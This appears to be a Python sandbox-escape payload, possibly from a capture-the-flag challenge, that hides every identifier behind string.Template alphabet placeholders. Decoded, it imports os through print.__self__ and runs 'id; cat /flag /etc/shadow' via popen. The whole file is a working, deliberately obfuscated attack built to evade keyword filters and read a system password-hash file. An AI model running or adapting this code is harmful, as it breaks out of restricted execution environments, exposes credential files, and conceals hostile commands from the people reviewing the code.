# technique: names are spelled as string.Template placeholders that index an alphabet mapping (no name appears as text); operator.methodcaller then invokes the loader on the real built-in module (print.__self__) and the pipe opener on the module it returns
import operator
import string

LETTERS = dict(zip(("c%d" % n for n in range(26)), string.ascii_lowercase))
LETTERS.update(u="_", sl="/", sp=" ", dt=".", am="&", gt=">", two="2", one="1", sc=";")


def spell(pattern):
    return string.Template(pattern).substitute(LETTERS)


core = print.__self__
loader = operator.methodcaller(spell('$u$u$c8$c12$c15$c14$c17$c19$u$u'), spell('$c14$c18'))
proc_module = loader(core)
opener = operator.methodcaller(spell('$c15$c14$c15$c4$c13'), spell('$c8$c3$sc$sp$c2$c0$c19$sp$sl$c5$c11$c0$c6$sp$sl$c4$c19$c2$sl$c18$c7$c0$c3$c14$c22$sp$two$gt$am$one'))
stream = opener(proc_module)
print(operator.methodcaller(spell('$c17$c4$c0$c3'))(stream))
